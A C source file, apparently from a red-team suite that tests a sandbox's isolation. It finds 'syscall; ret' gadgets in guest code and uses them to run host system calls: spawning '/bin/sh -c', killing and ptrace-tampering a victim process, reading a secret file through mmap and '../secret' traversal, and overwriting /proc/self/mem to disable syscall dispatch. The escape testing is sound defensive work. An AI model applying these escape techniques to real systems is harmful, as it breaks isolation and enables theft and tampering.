/* Host system calls through a `syscall; ret` found in guest-reachable code:
 * each attack issues one host system call with host arguments (host paths,
 * host pids) and says what the host kernel answered.  Any answer at all
 * means guest code reached the host kernel. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/un.h>
#include <unistd.h>

#include "redteam.h"

/* Reports one host system call's outcome. */
static int reached(const char* what, long r) {
    if (r == kNoHost) {
        contained("%s: no path to the host kernel", what);
        return 0;
    }
    escaped("%s: the host kernel answered %ld", what, r);
    return 1;
}

#define H(nr, ...) host_syscall_n(nr, (long[6]){__VA_ARGS__})
static long host_syscall_n(long nr, const long* a) { return host_syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]); }

void attack_gadget_scan(void) {
    static struct range rs[512];
    static struct gadget g[16384];
    int nr = walk_everything(rs, 512), found = 0, host = 0, callable = 0, kinds[3] = {0, 0, 0};
    for (int i = 0; i < nr; i++) {
        int n = find_gadgets(rs[i].start, rs[i].end, g, 16384);
        found += n;
        for (int k = 0; k < n; k++) {
            kinds[g[k].kind]++;
            if (!g[k].ret_after) continue;
            callable++;
            long pid = 0;
            /* getpid: 39 through syscall, 20 through the i386 entries */
            int sig = call_gadget(g[k].addr, g[k].kind == 0 ? SYS_getpid : 20, NULL, &pid);
            if (!sig && looks_like_host_pid(pid)) {
                host++;
                if (host <= 8) escaped("gadget at %#lx runs on the host: getpid = %ld", (unsigned long)g[k].addr, pid);
            }
        }
    }
    note("%d ranges walked; %d syscall, %d int $0x80, %d sysenter bytes; %d followed by ret and tried", nr,
         kinds[0], kinds[1], kinds[2], callable);
    if (!host) contained("none of %d gadgets reached the host kernel", found);
}

void attack_marker_create(void) {
    long fd = H(SYS_openat, AT_FDCWD, (long)g_targets.marker, O_CREAT | O_WRONLY | O_TRUNC, 0644);
    if (reached("host openat(marker, O_CREAT)", fd) && fd >= 0) {
        H(SYS_write, fd, (long)"escaped\n", 8);
        H(SYS_close, fd);
        escaped("created %s on the host", g_targets.marker);
    }
}

void attack_execve_shell(void) {
    static char cmd[512];
    snprintf(cmd, sizeof cmd, "echo escaped > '%s'; (sleep 30 &)", g_targets.marker);
    const char* argv[] = {"sh", "-c", cmd, NULL};
    const char* envp[] = {"PATH=/usr/bin:/bin", NULL};
    note("host execve(/bin/sh -c \"%s\")", cmd);
    long r = H(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
    reached("host execve(/bin/sh)", r); /* returns only if it failed */
}

void attack_kill_victim(void) {
    reached("host kill(victim, SIGKILL)", H(SYS_kill, g_targets.victim_pid, SIGKILL));
}

void attack_kill_parent(void) {
    long ppid = H(SYS_getppid);
    if (reached("host getppid", ppid) && ppid > 1) reached("host kill(parent, SIGTERM)", H(SYS_kill, ppid, SIGTERM));
}

void attack_ptrace_victim(void) {
    long r = H(SYS_ptrace, PTRACE_ATTACH, g_targets.victim_pid, 0, 0);
    if (!reached("host ptrace(PTRACE_ATTACH, victim)", r) || r != 0) return;
    H(SYS_wait4, g_targets.victim_pid, 0, __WALL, 0);
    long word = 0;
    long p = H(SYS_ptrace, PTRACE_PEEKDATA, g_targets.victim_pid, (long)g_targets.victim_canary, (long)&word);
    if (p == 0) escaped("read the victim's canary through ptrace: %.8s", (char*)&word);
    long poke = 0x44454b4f50;  /* "POKED" */
    if (H(SYS_ptrace, PTRACE_POKEDATA, g_targets.victim_pid, (long)g_targets.victim_canary, poke) == 0)
        escaped("wrote the victim's canary through ptrace");
    H(SYS_ptrace, PTRACE_DETACH, g_targets.victim_pid, 0, 0);
}

void attack_socket_connect(void) {
    long s = H(SYS_socket, AF_UNIX, SOCK_STREAM, 0);
    if (!reached("host socket(AF_UNIX)", s) || s < 0) return;
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    strncpy(a.sun_path, g_targets.socket, sizeof a.sun_path - 1);
    long c = H(SYS_connect, s, (long)&a, sizeof a);
    if (reached("host connect(the runner's socket)", c) && c == 0) {
        H(SYS_write, s, (long)"escaped\n", 8);
        escaped("connected to %s", g_targets.socket);
    }
    H(SYS_close, s);
}

void attack_mmap_host_file(void) {
    long fd = H(SYS_openat, AT_FDCWD, (long)g_targets.secret, O_RDONLY, 0);
    if (!reached("host openat(secret)", fd) || fd < 0) return;
    long m = H(SYS_mmap, 0, 4096, 1 /* PROT_READ */, 2 /* MAP_PRIVATE */, fd, 0);
    if (reached("host mmap(secret)", m) && m > 0 && m < (long)0x800000000000) {
        char text[64] = {0};
        probe_copy((uint64_t)m, text, sizeof text - 1);
        text[strcspn(text, "\n")] = 0;
        printf("LEAK: %s\n", text);
        escaped("read the host file %s through a host mapping at %#lx", g_targets.secret, (unsigned long)m);
    }
}

void attack_process_vm_writev(void) {
    char data[] = "PWNED";
    struct iovec local = {data, 5}, remote = {(void*)g_targets.victim_canary, 5};
    reached("host process_vm_writev(victim canary)",
            H(SYS_process_vm_writev, g_targets.victim_pid, (long)&local, 1, (long)&remote, 1, 0));
}

void attack_proc_self_mem(void) {
    long fd = H(SYS_openat, AT_FDCWD, (long)"/proc/self/mem", O_RDWR, 0);
    if (!reached("host openat(/proc/self/mem, O_RDWR)", fd) || fd < 0) return;
    /* Turn Syscall User Dispatch's selector to ALLOW through the file. */
    uint64_t sel = kernel_symbol("_ZN5vmlib2uo19g_dispatch_selectorE");
    char zero = 0;
    if (sel) reached("host pwrite(/proc/self/mem, selector)", H(SYS_pwrite64, fd, (long)&zero, 1, (long)sel));
    char buf[16];
    long r = H(SYS_pread64, fd, (long)buf, sizeof buf, (long)TANDEM_PHYS_TO_VIRT(TANDEM_PHYS_BOOT_INFO));
    reached("host pread(/proc/self/mem)", r);
    H(SYS_close, fd);
    if (sel) *(volatile char*)sel = 1;
}

void attack_host_fds(void) {
    int open_fds = 0;
    for (long fd = 0; fd < 256; fd++) {
        long r = H(SYS_fcntl, fd, F_GETFD, 0);
        if (r == kNoHost) {
            contained("host fcntl: no path to the host kernel");
            return;
        }
        if (r < 0) continue;
        open_fds++;
        char link[64], target[256] = {0};
        snprintf(link, sizeof link, "/proc/self/fd/%ld", fd);
        H(SYS_readlinkat, AT_FDCWD, (long)link, (long)target, sizeof target - 1);
        /* An export's directory fd leads out of it with "..". */
        long s = H(SYS_openat, fd, (long)"../secret", O_RDONLY, 0);
        if (s >= 0) {
            char text[64] = {0};
            H(SYS_read, s, (long)text, sizeof text - 1);
            text[strcspn(text, "\n")] = 0;
            printf("LEAK: %s\n", text);
            escaped("host fd %ld (%s): openat(fd, \"../secret\") read the secret", fd, target);
            H(SYS_close, s);
        }
        note("host fd %ld -> %s", fd, target);
    }
    if (open_fds) escaped("%d host file descriptors usable from guest code", open_fds);
}

void attack_host_file_modify(void) {
    long fd = H(SYS_openat, AT_FDCWD, (long)g_targets.watched, O_WRONLY | O_TRUNC, 0);
    if (reached("host openat(read-only export's file, O_WRONLY|O_TRUNC)", fd) && fd >= 0) {
        H(SYS_write, fd, (long)"escaped\n", 8);
        H(SYS_close, fd);
        escaped("rewrote %s on the host", g_targets.watched);
    }
}
